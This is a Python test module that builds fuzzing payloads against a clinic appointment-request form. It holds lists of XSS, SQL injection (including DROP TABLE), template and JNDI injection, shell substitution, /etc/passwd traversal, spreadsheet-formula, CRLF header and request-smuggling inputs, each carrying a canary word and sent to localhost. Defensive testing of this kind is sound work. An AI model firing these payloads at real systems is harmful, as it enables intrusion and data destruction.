"""Hostile submissions of the form, by kind; each carries a canary in all that it sends."""

import random
from dataclasses import dataclass, field
from urllib.parse import quote_from_bytes

from . import canary

FORM = "application/x-www-form-urlencoded"
WRITTEN = ["name", "phone", "email", "message", "language", "access_needs"]
CHOSEN = [
    "service",
    "for_whom",
    "patient_type",
    "preferred_days",
    "preferred_time",
    "best_time_to_call",
    "voicemail_ok",
    "needs_interpreter",
    "consent",
    "guide",
    "form_token",
]
# What the site decides and no form may.
DECIDED = [
    "status",
    "outcome",
    "version",
    "id",
    "pk",
    "secret",
    "reference",
    "promised_by",
    "created_at",
    "consented_at",
    "assigned_to",
    "claimed_until",
    "content_digest",
    "guide_title",
    "guide_revision",
    "text_for_patient",
    "first_opened_at",
    "spam",
    "suspected_spam",
    "spam_reasons",
    "read_first",
    "escalated_at",
    "duplicate_of",
    "start",
    "end",
    "place",
    "calendar_sequence",
]
UNICODE = [
    "\u202e{}\u202c\u2066\u2069",  # shown backwards
    "\u200b{}\u200d\u2060\ufeff",  # zero width
    "{}" + "e" + "\u0301\u0323" * 120,  # a tower of accents
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 {} \U0001f1fa\U0001f1f8\U0001f3f4\U000e0067",  # families, flags, tags
    "{} \u0645\u0631\u062d\u0628\u0627 \u4f60\u597d \u0928\u092e\u0938\u094d\u0924\u0947 שלום",
    "{}\ufffe\uffff\ufdd0\U0010ffff\ue000",  # no characters at all
    "\x01\x02\x08\x0b\x0c\x1b[31m{}\x7f\x85\u2028\u2029",  # control characters, a terminal's colors
    "ﬁ Ⅷ ① {} ℌ 𝔥 İ ı ß ſ Å",  # other when lower-cased or composed
    "{}" + "\u1d25" * 100,
    "+1 212 ٥٥٥ ٠١٤٢ {}",  # digits of another script
]
BYTES = [
    b"%s\x00after the end",
    b"\xed\xa0\x80%s\xed\xbf\xbf",  # halves of characters
    b"\xff\xfe\xc3\x28%s\xf0\x9f\x92",
    b"\xc0\xaf%s\xc0\x80\xf8\x88\x80\x80\x80",  # overlong
    "Größe %s".encode("latin-1"),
    "日本 %s".encode("shift-jis"),
    b"\x1b$B%s\x1b(B",
    b"\xef\xbb\xbf%s",
]
LINE_BREAKS = [
    "{}\r\nBcc: {}@example.org\r\n\r\nbody",
    "{}\nSubject: {}",
    "{}\r\n.\r\nMAIL FROM:<{}@example.org>\r\n",
    "{}@example.org\r\nTo: {}@example.org",
    "{}@example.org,{}@example.org;",
    "=?utf-8?B?{}?= <{}@example.org>",
    '"{}\\\r\n {}"@example.org',
    "{}\x0b\x0c\x1c\x1d\x1e\u2028Set-Cookie: a={}",
    "2026-11-23 10:00:00 ERROR root {}\n{}",
]
FORMULAS = [
    "={}",
    "+1+cmd|' /C calc'!{}",
    "-2+3+{}",
    "@SUM({})",
    "\t={}",
    "\r={}",
    "＝{}",
    '=HYPERLINK("http://example.org/{}","{}")',
    '";={};"',
    "%0A-{}",
]
MARKUP = [
    "<script>{}</script>",
    '"><img src=x onerror=alert("{}")>',
    "'><svg/onload={}>",
    "</textarea><script>{}</script>",
    "</title><script src=//example.org/{}.js></script>",
    '<a href="javascript:{}">x</a>',
    "<svg><p><style><g title='</style><img src onerror={}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={}&gt;'>",
    "<form action=//example.org/{}><button>go</button>",
    "<!--{}--!><script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "<base href=//example.org/{}>",
    "` onmouseover={} `",
]
INJECTIONS = [
    "'; DROP TABLE appointments_appointmentrequest; -- {}",
    "' OR '1'='1' UNION SELECT '{}' --",
    "{}' || pg_sleep(10) --",
    "%s%s%n%(x)s{}",
    "{{7*7}}{}",
    "{% debug %}{}{% load x %}",
    "{0.__class__.__mro__}{}",
    "${jndi:ldap://example.org/{}}",
    "$(touch {})`touch {}`",
    "../../../../etc/passwd%00{}",
    '{"$ne": "{}"}',
    "\\x27 \\u0027 {}",
    "__proto__[{}]=1",
]
LONG = [  # what would be slow if anything looked at it more than once
    "{}" + "a" * 60_000,
    "{}@" + "a." * 20_000 + "example.org",
    "+1" + "2" * 50_000 + "{}",
    "{}" + " " * 60_000 + "x",
    "{}" + "\u0301" * 9_000,
    "{}" + "(" * 60_000,
    "{}" + "&amp;" * 7_000,
    "http://{}.example.org/ " * 1_000,
    "{}" + "\u00e9 " * 9_000,
]


@dataclass
class Submission:
    kind: str
    word: str
    body: bytes
    content_type: str = FORM
    query: str = ""
    headers: list = field(default_factory=list)
    head: bytes | None = None  # instead of an honest one
    stays: bool = False  # says more than it sends, and waits

    def on_the_wire(self, cookie, address):
        if self.head is not None:
            return self.head + self.body
        lines = [
            f"POST /request/{self.query} HTTP/1.1",
            "Host: 127.0.0.1",
            f"Content-Type: {self.content_type}",
            f"Content-Length: {len(self.body)}",
            f"X-Forwarded-For: {address}",
            f"Cookie: {cookie}",
            "Connection: close",
            *self.headers,
        ]
        return "\r\n".join(lines).encode("utf-8") + b"\r\n\r\n" + self.body


def submissions(forms, number, seed=1):
    """`number` of them, mixed; `forms` are what honest browsers would send, [(name, value)…]."""
    dice = random.Random(seed)
    mixed = [
        make(dice, dice.choice(forms), canary.new())
        for make, share in SHARES.items()
        for _ in range(max(1, round(share * number / 10_000)))
    ]
    dice.shuffle(mixed)
    return mixed


def encoded(pairs):
    return "&".join(f"{quote_from_bytes(name)}={quote_from_bytes(value)}" for name, value in pairs).encode()


def pairs_of(form):
    return [(name.encode(), str(value).encode()) for name, value in form]


def typed(dice, form, *values, chosen=0.15):
    """The form with some of the values written into some of its fields, as bytes."""
    fields = dice.sample(WRITTEN, dice.randint(1, 4))
    if dice.random() < chosen:
        fields.append(dice.choice(CHOSEN))
    changed = {name: dice.choice(values) for name in fields}
    others = [(name, value) for name, value in form if name not in changed]
    return encoded(pairs_of(others) + [(name.encode(), value) for name, value in changed.items()])


def texts(dice, form, word, patterns):
    return typed(dice, form, *(pattern.replace("{}", word).encode() for pattern in patterns))


def odd_characters(dice, form, word):
    patterns = LONG if dice.random() < 0.1 else UNICODE
    return Submission("unicode", word, texts(dice, form, word, patterns))


def broken_bytes(dice, form, word):
    content_type = FORM
    if dice.random() < 0.3:
        charset = dice.choice(["utf-16", "latin-1", "utf-7", "shift_jis", "", "idna", "zlib", word, "utf-8; charset=x"])
        content_type = f"{FORM}; charset={charset}"
    body = typed(dice, form, *(pattern.replace(b"%s", word.encode()) for pattern in BYTES))
    if dice.random() < 0.3:
        body = body.replace(b"%", dice.choice([b"%%", b"%u00", b"\x00", b"\xff%"]), 3)
    return Submission("bytes", word, body, content_type)


def line_breaks(dice, form, word):
    headers = [
        f"{dice.choice(['Referer', 'User-Agent', 'Accept-Language', 'X-Real-IP', 'Forwarded', 'X-Request-ID'])}: {word}"
    ]
    query = dice.choice(["", "", f"?guide={word}", f"?x=%0d%0aSet-Cookie:%20{word}", f"?{word}={word}"])
    return Submission("line breaks", word, texts(dice, form, word, LINE_BREAKS), query=query, headers=headers)


def formulas(dice, form, word):
    return Submission("formulas", word, texts(dice, form, word, FORMULAS))


def markup(dice, form, word):
    return Submission("markup", word, texts(dice, form, word, MARKUP))


def injections(dice, form, word):
    return Submission("injections", word, texts(dice, form, word, INJECTIONS))


def lies(dice, form, word):
    """About the body's length, its kind or the request itself."""
    body = typed(dice, form, word.encode())
    boundary = f'--x\r\nContent-Disposition: form-data; name="name"\r\n\r\n{word}\r\n'.encode()
    length = len(body)
    first = b"POST /request/ HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
    plain = f"Content-Type: {FORM}\r\n".encode()

    def lie(head, sent=body, stays=False):
        return Submission("lies", word, sent, head=first + head + b"\r\n\r\n", stays=stays)

    def said(length):
        return plain + f"Content-Length: {length}".encode()

    return dice.choice(
        [
            lambda: lie(said(length - 7)),
            lambda: lie(said(length + 50), stays=True),
            lambda: lie(said(-1)),
            lambda: lie(said("1e3")),
            lambda: lie(said("٣٤")),
            lambda: lie(said("9" * 30)),
            lambda: lie(said(f"{length}\r\nContent-Length: 3")),
            lambda: lie(said(0)),
            lambda: lie(plain.rstrip()),
            lambda: lie(plain + b"Transfer-Encoding: chunked", b"5\r\nname=\r\nzz\r\n" + body, stays=True),
            lambda: lie(plain + b"Transfer-Encoding: chunked", b"%x\r\n%s\r\n0\r\n\r\n" % (length, body)),
            lambda: lie(said(length) + b"\r\nTransfer-Encoding: chunked", body + b"0\r\n\r\n", stays=True),
            lambda: lie(said(length) + b"\r\nTransfer-Encoding: gzip, chunked", body, stays=True),
            lambda: lie(
                b"Content-Type: multipart/form-data; boundary=x\r\nContent-Length: %d" % len(boundary), boundary
            ),
            lambda: lie(
                b"Content-Type: multipart/form-data; boundary=\r\nContent-Length: %d" % len(boundary), boundary
            ),
            lambda: lie(b"Content-Type: %s\r\nContent-Length: %d" % (word.encode() * 400, length)),
            lambda: lie(b"Content-Type: application/json\r\nContent-Length: %d" % length),
            lambda: lie(said(length) + b"\r\nContent-Encoding: gzip"),
            lambda: lie(said(length) + b"\r\nExpect: 100-continue"),
            lambda: lie(said(length) + b"\r\nX: " + word.encode() * 4_000),
            lambda: lie(said(length) + b"\r\n no colon " + word.encode()),
            lambda: lie(said(length) + b"\r\nHost: " + b"evil.example.org"),
            lambda: Submission(
                "lies",
                word,
                body,
                head=b"POST  /request/  HTTP/9.9\r\nConnection: close\r\n" + said(length) + b"\r\n\r\n",
            ),
            lambda: Submission("lies", word, body, head=b"\x16\x03\x01\x02\x00\r\n\r\n"),
            lambda: Submission(
                "lies",
                word,
                body,
                head=b"POST http://evil.example.org/request/ HTTP/1.1\r\nConnection: close\r\n"
                + said(length)
                + b"\r\n\r\n",
            ),
        ]
    )()


def oversize(dice, form, word):
    """From just over the limit to 10 MB, mostly small: as many of each size's order."""
    target = int(64 * 1024 * 160 ** (dice.random() ** 2))
    block = f"{word} ".encode()
    body = encoded(pairs_of(form)) + b"&" + dice.choice([b"message", b"x", b"form_token"]) + b"="
    body += block * (target // len(block) + 1)
    if dice.random() < 0.3:
        body = b"a=&" * (target // 3) + block
    return Submission("oversize", word, body)


def fields(dice, form, word):
    """Missing, repeated, invented, and those that only the site may set."""
    pairs = pairs_of(form)
    for _ in range(dice.randint(1, 5)):
        match dice.randint(0, 4):
            case 0:
                pairs.pop(dice.randrange(len(pairs)))
            case 1:
                pairs += [(dice.choice(pairs)[0], word.encode())] * dice.randint(1, 30)
            case 2:
                pairs.append((word.encode(), word.encode()))
            case 3:
                pairs += [(name.encode(), dice.choice([word.encode(), b"1", b"booked"])) for name in DECIDED]
            case 4:
                pairs += [(f"{dice.choice(WRITTEN)}[{word}]".encode(), word.encode())]
    pairs.append((b"message", word.encode()))
    if dice.random() < 0.05:
        pairs += [(b"a", b"")] * 6_000
    dice.shuffle(pairs)
    return Submission("fields", word, encoded(pairs))


def replays(dice, form, word):
    """A form that others have sent, with other words."""
    return Submission("replays", word, typed(dice, form, f"Patient {word}".encode(), chosen=0))


# Of 10,000
SHARES = {
    odd_characters: 2000,
    broken_bytes: 1000,
    line_breaks: 1000,
    formulas: 1000,
    markup: 1000,
    injections: 1000,
    lies: 1000,
    oversize: 1000,
    fields: 500,
    replays: 500,
}
